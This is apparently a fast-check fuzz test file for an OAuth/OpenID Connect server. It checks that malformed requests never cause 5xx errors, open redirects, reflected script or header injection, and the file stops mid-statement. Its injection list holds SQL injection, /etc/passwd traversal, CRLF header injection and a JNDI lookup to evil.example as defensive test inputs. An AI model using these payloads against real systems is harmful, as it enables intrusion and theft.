/**
 * Property/fuzz tests: thousands of malformed requests at every endpoint and page, in process.
 *
 * Every answer must be a 4xx with an OAuth error (JSON) or the hosted error page / a re-rendered form
 * (HTML), or a 2xx/3xx when the input happens to be valid; never a 5xx. Every answer carries the
 * anti-framing headers, and no redirect leaves for a URI that is neither registered nor the issuer.
 *
 * Reproduce a failure with the seed printed in the message: `FUZZ_SEED=<n> node --import tsx --test
 * test/robustness/fuzz.test.ts` (the default seed is fixed, so a plain run is reproducible too).
 * `FUZZ_SCALE=10` runs ten times as many requests; `FUZZ_STATS=1` prints the answers seen per endpoint
 * and status (`=2` adds the error descriptions).
 */
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { Agent, actionOf, authorizeThroughPages, csrfOf, pkce } from '../helpers/agent.js';
import { basic, form, startTestServer, type TestApp, type TestServer, testApp } from '../helpers/server.js';

const SEED = Number(process.env['FUZZ_SEED'] ?? 0x1a7c4e);
/** Scales every property's number of runs (e.g. `FUZZ_SCALE=10` for a long soak). */
const SCALE = Number(process.env['FUZZ_SCALE'] ?? 1);
const runs = (n: number) => Math.max(1, Math.round(n * SCALE));

/** RFC 6749 §4.1.2.1/§5.2, RFC 6750 §3.1, RFC 7009 §2.2.1, RFC 8628 §3.5, RFC 8707 §2, OIDC Core §3.1.2.6, SPEC (mfa_required). */
const OAUTH_ERROR_CODES = new Set([
  'invalid_request',
  'invalid_client',
  'invalid_grant',
  'unauthorized_client',
  'unsupported_grant_type',
  'invalid_scope',
  'invalid_target',
  'access_denied',
  'unsupported_response_type',
  'temporarily_unavailable',
  'invalid_token',
  'insufficient_scope',
  'unsupported_token_type',
  'authorization_pending',
  'slow_down',
  'expired_token',
  'interaction_required',
  'login_required',
  'account_selection_required',
  'consent_required',
  'invalid_request_uri',
  'invalid_request_object',
  'request_not_supported',
  'request_uri_not_supported',
  'registration_not_supported',
  'mfa_required',
]);

const XSS_MARKER = '<script>lk_xss()</script>';
const ATTR_MARKER = '" onfocus="lk_xss()';
const HEADER_MARKER = 'lk_injected';

// ---------------------------------------------------------------------------------------------
// Values: most are short; `Long` stands for a 10k-1M character value and prints as its size, so a
// counterexample stays readable.

class Long {
  constructor(
    readonly unit: string,
    readonly n: number,
  ) {}
  toString(): string {
    return this.unit.repeat(Math.ceil(this.n / this.unit.length)).slice(0, this.n);
  }
  [fc.toStringMethod](): string {
    return `Long(${JSON.stringify(this.unit)} x ${this.n})`;
  }
}
type Val = string | Long;
const str = (v: Val) => (typeof v === 'string' ? v : v.toString());

const injection = fc.constantFrom(
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '\\',
  '\\\\server\\share',
  XSS_MARKER,
  `">${XSS_MARKER}`,
  ATTR_MARKER,
  '../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '/..//..//',
  `\r\nSet-Cookie: ${HEADER_MARKER}=1`,
  `%0d%0aSet-Cookie:%20${HEADER_MARKER}=1`,
  `x\r\n\r\n<html>${HEADER_MARKER}`,
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '\u0000',
  'a\u0000b',
  '\u202e\u0000\u0007',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  '😀',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/cb',
  '//evil.example/cb',
  'https://app.example.evil.example/cb',
  'https://app.example/cb/../../evil',
  'https://app.example/cb#frag',
  'https://app.example/cb?extra=1',
  'https://APP.example/cb',
  'https://app.example:443/cb',
  'https://user@app.example/cb',
  'http://127.0.0.1:1/callback?x=1',
  'http://[::1]/callback',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '{"a":',
  'NaN',
  '-1',
  '0',
  '1e400',
  '99999999999999999999',
  '0x10',
  ' ',
  '\t',
  '%',
  '%%',
  '%zz',
  '%E0%A4%A',
  '+',
  '=',
  '&',
  '&&==&',
  '__proto__',
  'constructor',
);

const controlChars = fc.string({
  unit: fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c)),
  maxLength: 12,
});
const longVal = fc
  .tuple(
    fc.constantFrom('x', 'a%', '%zz', '\u0000', 'é', '😀', ' ', '+', "'", '<a>', 'openid '),
    fc.constantFrom(10_000, 65_537, 100_000, 300_000, 1_000_000),
  )
  .map(([unit, n]) => new Long(unit, n));

/** Any value: short random text, binary-ish text, control characters, injections, sometimes long. */
const junk: fc.Arbitrary<Val> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: controlChars },
  { weight: 5, arbitrary: injection },
  { weight: 1, arbitrary: fc.constant('') },
  { weight: 1, arbitrary: longVal },
);

const paramName = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 12 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'client_id',
      'client_secret',
      'grant_type',
      'scope',
      'redirect_uri',
      'response_type',
      'state',
      'code',
      'token',
      'refresh_token',
      'interaction',
      'csrf',
      'access_token',
      'request',
      'request_uri',
      'resource',
      'prompt',
      'max_age',
      'id_token_hint',
      'post_logout_redirect_uri',
      'return_to',
      '',
      '%zz',
      '\u0000',
      'a[b]',
      '__proto__',
      'constructor',
      'hasOwnProperty',
    ),
  },
);

// ---------------------------------------------------------------------------------------------
// Requests

type Pairs = [Val, Val][];
type Encoding = 'proper' | 'raw' | 'broken';
type Payload =
  | { kind: 'params' }
  | { kind: 'json'; text: string }
  | { kind: 'bytes'; bytes: number[] }
  | { kind: 'multipart' }
  | { kind: 'huge'; n: number };

interface BodySpec {
  contentType: string | undefined;
  payload: Payload;
  chunked: boolean;
  contentLength: string | undefined;
}

interface Spec {
  method: string;
  path: string;
  query: Pairs | undefined;
  queryEncoding: Encoding;
  params: Pairs;
  body: BodySpec | undefined;
  encoding: Encoding;
  headers: [string, string][];
}

const BROKEN_ESCAPES = [
  '%',
  '%G1',
  '%E0%A4',
  '%C0%AF',
  '%FF',
  '%ED%A0%80',
  '%F4%90%80%80',
  '%2',
  '%%41',
  '%u0041',
];

function encodePairs(pairs: Pairs, encoding: Encoding, salt: number): string {
  if (encoding === 'raw') return pairs.map(([k, v]) => `${str(k)}=${str(v)}`).join('&');
  const proper = new URLSearchParams(pairs.map(([k, v]): [string, string] => [str(k), str(v)])).toString();
  if (encoding === 'proper') return proper;
  const bad = BROKEN_ESCAPES[salt % BROKEN_ESCAPES.length]!;
  const at = proper.length ? salt % (proper.length + 1) : 0;
  return proper.slice(0, at) + bad + proper.slice(at);
}

const contentTypes = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.constantFrom('application/x-www-form-urlencoded'),
  },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      'application/x-www-form-urlencoded; charset=utf-8',
      'application/x-www-form-urlencoded;charset=UTF-8',
      'APPLICATION/X-WWW-FORM-URLENCODED',
      'application/x-www-form-urlencoded; charset=iso-8859-1',
      'application/x-www-form-urlencoded; charset=utf-16',
      'application/x-www-form-urlencoded;;;',
      'application/x-www-form-urlencoded ; boundary=x',
      'application/x-www-form-urlencodedx',
      'application/x-www-form-urlencoded, application/json',
      'application/json',
      'application/json; charset=utf-8',
      'text/plain',
      'text/plain; charset=utf-8',
      'text/html',
      'application/xml',
      'multipart/form-data; boundary=lkboundary',
      'multipart/form-data',
      'application/octet-stream',
      '*/*',
      '',
      ' ',
      ';',
      'form',
    ),
  },
  { weight: 2, arbitrary: fc.constant(undefined) },
);

const payloads: fc.Arbitrary<Payload> = fc.oneof(
  { weight: 10, arbitrary: fc.constant<Payload>({ kind: 'params' }) },
  {
    weight: 2,
    arbitrary: fc
      .oneof(
        fc.json({ maxDepth: 2 }),
        fc.constantFrom(
          '{',
          '{"grant_type":"client_credentials"}',
          '[1,2',
          'null',
          '"\\u0000"',
          '{"__proto__":{"x":1}}',
        ),
      )
      .map((text): Payload => ({ kind: 'json', text })),
  },
  {
    weight: 2,
    arbitrary: fc
      .oneof(
        fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 40 }),
        fc.constantFrom(
          [0x61, 0x3d, 0xff, 0xfe],
          [0x61, 0x3d, 0xc0, 0xaf],
          [0x61, 0x3d, 0xed, 0xa0, 0x80],
          [0xef, 0xbb, 0xbf, 0x61, 0x3d, 0x62],
          [0x67, 0x72, 0x61, 0x6e, 0x74, 0x5f, 0x74, 0x79, 0x70, 0x65, 0x3d, 0x80],
          [0x00, 0x00, 0x00],
        ),
      )
      .map((bytes): Payload => ({ kind: 'bytes', bytes: [...bytes] })),
  },
  { weight: 1, arbitrary: fc.constant<Payload>({ kind: 'multipart' }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(65_537, 70_000, 200_000, 1_100_000).map((n) => ({ kind: 'huge' as const, n })),
  },
);

const bodies: fc.Arbitrary<BodySpec> = fc.record({
  contentType: contentTypes,
  payload: payloads,
  chunked: fc.boolean(),
  contentLength: fc.option(
    fc.constantFrom('abc', '-1', '0', '1', ' 5 ', '1e10', '0x10', '99999999999', '65537'),
    {
      freq: 6,
      nil: undefined,
    },
  ),
});

const encodings = fc.constantFrom<Encoding>('proper', 'proper', 'proper', 'proper', 'raw', 'broken');
const oddMethods = fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'PROPFIND', 'get', 'post');

interface World {
  t: TestApp;
  issuer: string;
  conf: { id: string; secret: string };
  pub: { id: string };
  user: { email: string; password: string };
  /** Registered redirect URIs (authorization responses) and post-logout URIs. */
  redirectUris: string[];
  logoutUris: string[];
  challenge: string;
  verifier: string;
  /**
   * Pools of live values, renewed before each property (the storm redeems codes, rotates and
   * revokes tokens, finishes interactions and signs the browser out).
   */
  codes: string[];
  accessTokens: string[];
  refreshTokens: string[];
  idTokens: string[];
  loginInteractions: string[];
  consentInteractions: string[];
  /** CSRF tokens of the signed-in and of the anonymous browser. */
  csrf: string[];
  /** Cookie headers: a signed-in browser and one that only has a browser id. */
  signedIn: string;
  anonymous: string;
}

function b64(s: string): string {
  return Buffer.from(s, 'latin1').toString('base64');
}

/** Header values are ByteStrings without CR, LF or NUL (the HTTP layer never delivers others). */
const headerSafe = (s: string) =>
  [...s]
    .filter((ch) => ch !== '\r' && ch !== '\n' && ch !== '\0')
    .map((ch) => (ch.charCodeAt(0) > 0xff ? '?' : ch))
    .join('');

function authHeaders(w: World): fc.Arbitrary<string | undefined> {
  const values = [
    basic(w.conf.id, w.conf.secret),
    basic(w.conf.id, 'wrong-secret'),
    basic(w.pub.id, ''),
    basic('unknown-client', 'x'),
    `Basic ${b64(w.conf.id)}`,
    `Basic ${b64(`${w.conf.id}:`)}`,
    `Basic ${b64(':')}`,
    'Basic ',
    'Basic',
    'basic    ',
    'BASIC !!!***',
    'Basic ====',
    `Basic ${b64('%zz:%zz')}`,
    `Basic ${b64('%E0%A4%A:x')}`,
    `Basic ${b64('\u00ff\u00fe:\u0000')}`,
    `Basic ${b64(`${w.conf.id}:${w.conf.secret}`)} extra`,
    `Basic ${b64(`${w.conf.id}:${w.conf.secret}`)}, Basic ${b64('a:b')}`,
    ...w.accessTokens.map((a) => `Bearer ${a}`),
    'Bearer',
    'Bearer ',
    'Bearer a b',
    'Bearer ....',
    'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
    'Bearer eyJhbGciOiJFUzI1NiIsImtpZCI6Ii4uLy4uIn0.e30.AAAA',
    'Bearer =====',
    'Digest username="x"',
    'Negotiate YII=',
    'MAC id="x"',
  ];
  return fc.oneof(
    { weight: 8, arbitrary: fc.constant(undefined) },
    { weight: 3, arbitrary: fc.constantFrom(values[0]!, `Bearer ${w.accessTokens[0]}`) },
    { weight: 6, arbitrary: fc.constantFrom(...values) },
    {
      weight: 1,
      arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((s) => headerSafe(`Basic ${s}`)),
    },
    {
      weight: 1,
      arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((s) => headerSafe(`Bearer ${s}`)),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(20_000, 200_000)
        .map((n) => `Basic ${b64(`${'i'.repeat(n)}:${'s'.repeat(n)}`)}`),
    },
    { weight: 1, arbitrary: fc.constantFrom(30_000, 300_000).map((n) => `Bearer ${'A'.repeat(n)}`) },
  );
}

function cookieHeaders(w: World, preferred?: string): fc.Arbitrary<string | undefined> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(undefined) },
    { weight: preferred ? 8 : 1, arbitrary: fc.constant(preferred ?? w.signedIn) },
    { weight: 4, arbitrary: fc.constantFrom(w.signedIn, w.anonymous) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        'lk_browser=',
        'lk_browser=%zz; lk_session=%E0%A4%A',
        `lk_browser=${'A'.repeat(43)}; lk_session=${'B'.repeat(43)}`,
        `lk_session=${'x'.repeat(5000)}`,
        `${w.signedIn}; ${w.anonymous}`,
        `lk_browser=a; lk_browser=b; lk_session=c; lk_session=d`,
        '=; ;;; a; =b; c=',
        'lk_browser="quoted"; lk_session="\\"',
        `lk_session=${HEADER_MARKER}%0d%0aSet-Cookie:%20x=1`,
        '\u00ff\u00fe=\u00ff',
        '__proto__=1; constructor=2',
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }).map(headerSafe) },
  );
}

const acceptHeaders = fc.constantFrom(
  undefined,
  'text/html',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'application/json',
  '*/*',
  '',
  'text/html\u00ff',
);
const originHeaders = fc.constantFrom(
  undefined,
  undefined,
  'null',
  'https://evil.example',
  'http://localhost:3000',
  '%zz',
);

function headersArb(w: World, preferredCookie?: string): fc.Arbitrary<[string, string][]> {
  return fc
    .record({
      authorization: authHeaders(w),
      cookie: cookieHeaders(w, preferredCookie),
      accept: acceptHeaders,
      origin: originHeaders,
      extra: fc.array(
        fc.tuple(
          fc.constantFrom(
            'x-forwarded-for',
            'x-forwarded-proto',
            'x-http-method-override',
            'referer',
            'user-agent',
            'accept-language',
            'if-none-match',
            'range',
            'dpop',
          ),
          fc.string({ unit: 'binary', maxLength: 40 }).map(headerSafe),
        ),
        { maxLength: 2 },
      ),
    })
    .map(({ authorization, cookie, accept, origin, extra }) => {
      const h: [string, string][] = [];
      if (authorization !== undefined) h.push(['authorization', authorization]);
      if (cookie !== undefined) h.push(['cookie', cookie]);
      if (accept !== undefined) h.push(['accept', accept]);
      if (origin !== undefined) h.push(['origin', origin]);
      return [...h, ...extra];
    });
}

/** A parameter's values: valid ones, wrong-but-plausible ones, and whether a valid request may omit it. */
interface Field {
  ok: Val[];
  bad: Val[];
  optional: boolean;
}
type Template = Record<string, Val[] | Field>;
const asField = (f: Val[] | Field): Field => (Array.isArray(f) ? { ok: f, bad: [], optional: false } : f);
const field = (ok: Val[], bad: Val[] = [], optional = false): Field => ({ ok, bad, optional });
const optional = (ok: Val[], bad: Val[] = []): Field => field(ok, bad, true);

/**
 * Parameters near a valid request: each known parameter present (a valid value or junk) or dropped,
 * some repeated, and a few unknown extras.
 */
function paramsArb(template: Template, mode: 'clean' | 'noisy' | 'mixed' = 'mixed'): fc.Arbitrary<Pairs> {
  const names = Object.keys(template);
  if (!names.length)
    return mode === 'clean' ? fc.constant([]) : fc.array(fc.tuple(paramName, junk), { maxLength: 3 });
  const field = (name: string) => asField(template[name]!);
  const entry = (name: string): fc.Arbitrary<[Val, Val]> => {
    const { ok, bad } = field(name);
    const choices: fc.WeightedArbitrary<Val>[] = [{ weight: 3, arbitrary: junk }];
    if (ok.length) choices.push({ weight: 5, arbitrary: fc.constantFrom(...ok) });
    if (bad.length) choices.push({ weight: 2, arbitrary: fc.constantFrom(...bad) });
    return fc.oneof(...choices).map((v): [Val, Val] => [name, v]);
  };
  const clean = fc
    .tuple(
      ...names
        .filter((n) => field(n).ok.length)
        .map((n) => {
          const { ok, optional } = field(n);
          const pair = fc.constantFrom(...ok).map((v): [Val, Val] => [n, v]);
          return optional ? fc.option(pair, { freq: 2, nil: undefined }) : pair;
        }),
    )
    .map((pairs) => pairs.filter((p): p is [Val, Val] => p !== undefined));
  const noisy = fc
    .tuple(
      fc.tuple(...names.map((n) => fc.option(entry(n), { freq: 5, nil: undefined }))),
      fc.array(fc.constantFrom(...names).chain(entry), { maxLength: 2 }),
      fc.array(fc.tuple(paramName, junk), { maxLength: 3 }),
    )
    .map(([base, dups, extras]) => [
      ...base.filter((p): p is [Val, Val] => p !== undefined),
      ...dups,
      ...extras,
    ]);
  if (mode === 'clean') return clean;
  if (mode === 'noisy') return noisy;
  return fc.oneof({ weight: 1, arbitrary: clean }, { weight: 2, arbitrary: noisy });
}

interface Target {
  method: string;
  path: string;
  /** The browser (cookie header) the interaction ids and CSRF tokens of the template belong to. */
  cookie?: string;
  /** The parameters: in the query of a GET, in the form body otherwise. */
  template: Template;
  /** A POST's query (e.g. `?interaction=`). */
  query?: Template;
}

function requestsFor(w: World, targets: Target[]): fc.Arbitrary<Spec> {
  return fc.constantFrom(...targets).chain((target) => {
    const get = target.method === 'GET';
    // A third of the requests are well formed (valid values, proper encoding, a form body, plain
    // headers), so the storm reaches the success paths and the checks behind them, not only the
    // first parser; the rest stack every kind of damage.
    const clean = fc.record({
      method: fc.constant(target.method),
      path: fc.constant(target.path),
      query: paramsArb(get ? target.template : (target.query ?? {}), 'clean'),
      queryEncoding: fc.constant<Encoding>('proper'),
      params: get ? fc.constant([] as Pairs) : paramsArb(target.template, 'clean'),
      body: fc.constant(undefined),
      encoding: fc.constant<Encoding>('proper'),
      headers: fc
        .tuple(
          fc.constantFrom(
            undefined,
            undefined,
            basic(w.conf.id, w.conf.secret),
            `Bearer ${w.accessTokens[0]}`,
          ),
          fc.constantFrom(target.cookie, target.cookie, undefined),
        )
        .map(([auth, cookie]) => {
          const h: [string, string][] = [];
          if (auth) h.push(['authorization', auth]);
          if (cookie) h.push(['cookie', cookie]);
          return h;
        }),
    });
    const noisy = fc.record({
      method: fc.oneof(
        { weight: 9, arbitrary: fc.constant(target.method) },
        { weight: 1, arbitrary: oddMethods },
      ),
      path: fc.constant(target.path),
      query: paramsArb(get ? target.template : (target.query ?? {})),
      queryEncoding: encodings,
      params: get ? fc.constant([] as Pairs) : paramsArb(target.template),
      body: fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 2, arbitrary: bodies }),
      encoding: encodings,
      headers: headersArb(w, target.cookie),
    });
    return fc.oneof({ weight: 1, arbitrary: clean }, { weight: 2, arbitrary: noisy });
  });
}

function materialize(w: World, spec: Spec, salt: number): Request | undefined {
  const method = spec.method;
  const qs = spec.query?.length ? `?${encodePairs(spec.query, spec.queryEncoding, salt)}` : '';
  const headers = new Headers();
  for (const [k, v] of spec.headers) headers.append(k, v);
  let body: Uint8Array | ReadableStream<Uint8Array> | undefined;
  const upper = method.toUpperCase();
  if (upper !== 'GET' && upper !== 'HEAD') {
    const b = spec.body ?? {
      contentType: 'application/x-www-form-urlencoded',
      payload: { kind: 'params' },
      chunked: false,
      contentLength: undefined,
    };
    if (b.contentType !== undefined) headers.set('content-type', b.contentType);
    if (b.contentLength !== undefined) headers.set('content-length', b.contentLength);
    let bytes: Uint8Array;
    switch (b.payload.kind) {
      case 'params':
        bytes = new TextEncoder().encode(encodePairs(spec.params, spec.encoding, salt));
        break;
      case 'json':
        bytes = new TextEncoder().encode(b.payload.text);
        break;
      case 'bytes':
        bytes = Uint8Array.from(b.payload.bytes);
        break;
      case 'multipart': {
        const parts = spec.params
          .map(
            ([k, v]) =>
              `--lkboundary\r\nContent-Disposition: form-data; name="${str(k)}"\r\n\r\n${str(v)}\r\n`,
          )
          .join('');
        bytes = new TextEncoder().encode(`${parts}--lkboundary--\r\n`);
        break;
      }
      case 'huge': {
        const base = encodePairs(spec.params, 'proper', salt);
        bytes = new TextEncoder().encode(`${base}&pad=${'p'.repeat(b.payload.n)}`);
        break;
      }
    }
    if (b.chunked) {
      // A streamed body: no content-length, split across several chunks.
      const step = Math.max(1, Math.ceil(bytes.length / 4));
      body = new ReadableStream<Uint8Array>({
        start(ctl) {
          for (let i = 0; i < bytes.length; i += step) ctl.enqueue(bytes.slice(i, i + step));
          ctl.close();
        },
      });
    } else {
      body = bytes;
    }
  }
  try {
    return new Request(new URL(spec.path + qs, w.issuer), {
      method,
      headers,
      ...(body !== undefined ? { body, duplex: 'half' } : {}),
    } as RequestInit);
  } catch {
    // An input no HTTP client can send (e.g. a method the fetch API forbids): nothing to test.
    return undefined;
  }
}

function describeSpec(spec: Spec): string {
  const short = (v: Val) =>
    typeof v === 'string' ? JSON.stringify(v.slice(0, 80)) : String(fc.stringify(v));
  return `${spec.method} ${spec.path} query=[${(spec.query ?? []).map(([k, v]) => `${short(k)}=${short(v)}`).join(', ')}] params=[${spec.params.map(([k, v]) => `${short(k)}=${short(v)}`).join(', ')}] body=${spec.body ? fc.stringify(spec.body) : 'form'} headers=${JSON.stringify(spec.headers.map(([k, v]) => [k, v.slice(0, 80)]))}`;
}

/** RFC 8252 §7.3: a loopback IP redirect URI matches on any port. */
function matchesRegistered(location: URL, registered: string): boolean {
  const r = new URL(registered);
  const loopback = r.protocol === 'http:' && (r.hostname === '127.0.0.1' || r.hostname === '[::1]');
  const sameHost = loopback ? location.hostname === r.hostname : location.host === r.host;
  if (location.protocol !== r.protocol || !sameHost || location.pathname !== r.pathname) return false;
  if (location.username || location.password) return false;
  for (const [k, v] of r.searchParams) if (location.searchParams.get(k) !== v) return false;
  return true;
}

async function checkResponse(w: World, spec: Spec, res: Response): Promise<void> {
  const what = () => `${describeSpec(spec)} -> ${res.status}`;
  const text = await res.text();
  const ctx = () => `${what()} ${res.headers.get('content-type')} ${text.slice(0, 300)}`;
  assert.ok(res.status < 500, `5xx: ${ctx()}`);
  assert.ok(res.status >= 200, `status: ${ctx()}`);
  assert.equal(res.headers.get('x-frame-options'), 'DENY', `X-Frame-Options: ${ctx()}`);
  assert.match(res.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/, `CSP: ${ctx()}`);
  for (const [name, value] of res.headers) {
    assert.ok(!name.includes(HEADER_MARKER) && !/^lk_injected/i.test(value), `header injection: ${ctx()}`);
  }
  for (const cookie of res.headers.getSetCookie())
    assert.ok(!cookie.includes(HEADER_MARKER), `cookie injection: ${ctx()}`);

  const type = (res.headers.get('content-type') ?? '').toLowerCase();
  const head = spec.method.toUpperCase() === 'HEAD';
  if (type.includes('text/html')) {
    assert.ok(
      !text.includes(XSS_MARKER) && !text.includes(ATTR_MARKER),
      `unescaped markup reflected: ${ctx()}`,
    );
    const formPost = /<form[^>]*id="form-post"[^>]*>|<form[^>]*action="([^"]*)"[^>]*id="form-post"/.exec(
      text,
    );
    if (formPost) {
      const action = /<form[^>]*action="([^"]*)"/.exec(text)?.[1]?.replace(/&amp;/g, '&') ?? '';
      assert.ok(
        w.redirectUris.some((r) => matchesRegistered(new URL(action, w.issuer), r)),
        `form_post to an unregistered URI ${action}: ${ctx()}`,
      );
    }
  }

  if (res.status >= 300 && res.status < 400) {
    const location = res.headers.get('location');
    assert.ok(location, `redirect without Location: ${ctx()}`);
    const url = new URL(location, w.issuer);
    const onIssuer = url.origin === new URL(w.issuer).origin;
    const toClient = w.redirectUris.some((r) => matchesRegistered(url, r));
    const toLogout = w.logoutUris.some((r) => matchesRegistered(url, r));
    assert.ok(onIssuer || toClient || toLogout, `redirect to an unregistered URI ${location}: ${ctx()}`);
    if (toClient && !onIssuer) {
      // RFC 9207 / SPEC §3: every authorization response carries iss, success and error.
      const fields = new URLSearchParams(url.hash ? url.hash.slice(1) : url.search);
      assert.equal(fields.get('iss'), w.issuer, `authorization response without iss: ${location}`);
      const error = fields.get('error');
      if (error !== null) assert.ok(OAUTH_ERROR_CODES.has(error), `unknown error code in ${location}`);
    }
    return;
  }
  if (res.status < 300) {
    if (type.includes('application/json') && !head)
      assert.doesNotThrow(() => JSON.parse(text), `bad JSON: ${ctx()}`);
    return;
  }
  // 4xx
  // RFC 9110 §15.5.2 (and RFC 6749 §5.2, RFC 6750 §3): every 401 names the scheme to use, pages included.
  if (res.status === 401)
    assert.ok(res.headers.get('www-authenticate'), `401 without WWW-Authenticate: ${ctx()}`);
  if (head) return;
  if (type.includes('application/json')) {
    const body = JSON.parse(text) as Record<string, unknown>;
    assert.equal(typeof body['error'], 'string', `4xx JSON without error: ${ctx()}`);
    assert.ok(OAUTH_ERROR_CODES.has(body['error'] as string), `unknown error code: ${ctx()}`);
    if (body['error_description'] !== undefined)
      assert.equal(typeof body['error_description'], 'string', ctx());
  } else if (type.includes('text/html')) {
    assert.ok(
      text.includes('Something went wrong') || /<form[\s>]/.test(text),
      `4xx HTML that is neither the error page nor a form: ${ctx()}`,
    );
  } else {
    assert.fail(`4xx with content type "${type}": ${ctx()}`);
  }
}

let counter = 0;
/** Answers seen, by `METHOD path status`: shows (and the last test checks) that the storm went deep. */
const seen = new Map<string, number>();
async function fire(w: World, spec: Spec): Promise<void> {
  const req = materialize(w, spec, counter++);
  if (!req) {
    seen.set('unsendable', (seen.get('unsendable') ?? 0) + 1);
    return;
  }
  let res: Response;
  try {
    res = await w.t.app.request(req);
  } catch (err) {
    assert.fail(`the app threw instead of answering: ${describeSpec(spec)}: ${String(err)}`);
  }
  const key = `${req.method} ${spec.path.split('?')[0]} ${res.status}`;
  seen.set(key, (seen.get(key) ?? 0) + 1);
  if (process.env['FUZZ_STATS'] === '2' && res.status >= 400) {
    const txt = await res.clone().text();
    const m =
      /"error_description":"([^"]*)"/.exec(txt)?.[1] ??
      /<p[^>]*>([^<]*)<\/p>/.exec(txt)?.[1] ??
      txt.slice(0, 60);
    const k2 = `  ${key} ${m.slice(0, 90)}`;
    seen.set(k2, (seen.get(k2) ?? 0) + 1);
  }
  await checkResponse(w, spec, res);
}

/** Runs a property with the seed `SEED + offset`; a failure names the seed to reproduce it. */
async function checkProperty<T>(
  name: string,
  arb: fc.Arbitrary<T>,
  run: (value: T) => Promise<void>,
  numRuns: number,
  offset: number,
) {
  const seed = SEED + offset;
  try {
    await fc.assert(fc.asyncProperty(arb, run), {
      seed,
      numRuns: runs(numRuns),
      interruptAfterTimeLimit: 90_000,
      includeErrorInReport: true,
    });
  } catch (err) {
    (err as Error).message = `[${name}] FUZZ_SEED=${SEED} (property seed ${seed})\n${(err as Error).message}`;
    throw err;
  }
}

const property = (name: string, arb: fc.Arbitrary<Spec>, numRuns: number, w: World, offset: number) =>
  checkProperty(name, arb, (spec) => fire(w, spec), numRuns, offset);

// ---------------------------------------------------------------------------------------------

describe('fuzz: malformed requests at every endpoint and page (in process)', { timeout: 300_000 }, () => {
  let t: TestApp;
  let w: World;
  let renew: () => Promise<void>;

  before(async () => {
    t = await testApp({ LATCHKEY_THROTTLE: 'off' });
    const redirectUris = ['https://app.example/cb', 'http://127.0.0.1:8080/callback?x=1'];
    const logoutUris = ['https://app.example/bye'];
    const conf = await t.addClient({
      grants: [
        'authorization_code',
        'refresh_token',
        'client_credentials',
        'password',
        'urn:ietf:params:oauth:grant-type:device_code',
      ],
      redirectUris,
      postLogoutRedirectUris: logoutUris,
      resources: ['https://api.example/'],
      implicit: true,
    });
    const pub = await t.addClient({ isPublic: true, redirectUris: ['https://spa.example/cb'] });
    const user = await t.addUser({});
    const fetcher = async (u: string, i?: RequestInit) => t.app.request(u, i);
    const { verifier, challenge } = pkce();
    // A browser that signs in (tokens, codes, pending consents) and one that never does (pending logins).
    const agent = new Agent(fetcher, t.issuer);
    const anon = new Agent(fetcher, t.issuer);
    const cookie = (a: Agent) => [...a.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const authorizeQuery = (extra: Record<string, string>) =>
      `/authorize?${new URLSearchParams({ response_type: 'code', client_id: conf.id, redirect_uri: redirectUris[0]!, state: 's', ...extra })}`;
    const pool = async <T>(n: number, make: () => Promise<T>): Promise<T[]> => {
      const out: T[] = [];
      for (let i = 0; i < n; i++) out.push(await make());
      return out;
    };

    renew = async () => {
      const codes = await pool(3, async () => {
        const cb = await authorizeThroughPages(agent, {
          clientId: conf.id,
          redirectUri: redirectUris[0]!,
          scope: 'openid email offline_access',
          challenge,
          nonce: 'n-1',
          email: user.email,
          password: user.password,
        });
        return cb.searchParams.get('code')!;
      });
      const tokens = await pool(3, async () => {
        const res = await t.request(
          '/token',
          form(
            {
              grant_type: 'password',
              username: user.email,
              password: user.password,
              scope: 'openid email offline_access',
            },
            { authorization: basic(conf.id, conf.secret!) },
          ),
        );
        assert.equal(res.status, 200);
        return (await res.json()) as { access_token: string; refresh_token: string; id_token: string };
      });
      let consentHtml = '';
      const consentInteractions = await pool(6, async () => {
        const page = await agent.go(authorizeQuery({ scope: 'openid profile', prompt: 'consent' }));
        consentHtml = page.html ?? '';
        return new URL(actionOf(consentHtml), t.issuer).searchParams.get('interaction') ?? '';
      });
      let loginHtml = '';
      const loginInteractions = await pool(6, async () => {
        const page = await anon.go(authorizeQuery({ scope: 'openid' }));
        loginHtml = page.html ?? '';
        return new URL(actionOf(loginHtml), t.issuer).searchParams.get('interaction') ?? '';
      });
      assert.ok(
        consentInteractions.every(Boolean) && loginInteractions.every(Boolean),
        'pending interactions',
      );
      w = {
        t,
        issuer: t.issuer,
        conf: { id: conf.id, secret: conf.secret! },
        pub,
        user,
        redirectUris: [...redirectUris, 'https://spa.example/cb'],
        logoutUris,
        challenge,
        verifier,
        codes,
        accessTokens: tokens.map((x) => x.access_token),
